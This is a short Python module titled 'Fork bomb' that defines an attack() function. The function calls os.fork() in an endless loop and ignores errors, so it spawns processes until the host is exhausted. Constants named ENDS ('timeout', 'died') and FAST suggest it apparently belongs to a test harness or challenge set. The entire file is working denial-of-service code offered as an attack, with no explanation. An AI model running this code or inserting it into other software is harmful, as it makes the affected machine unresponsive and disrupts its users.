"""Fork bomb"""

import os

ENDS = ("timeout", "died")
FAST = True


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
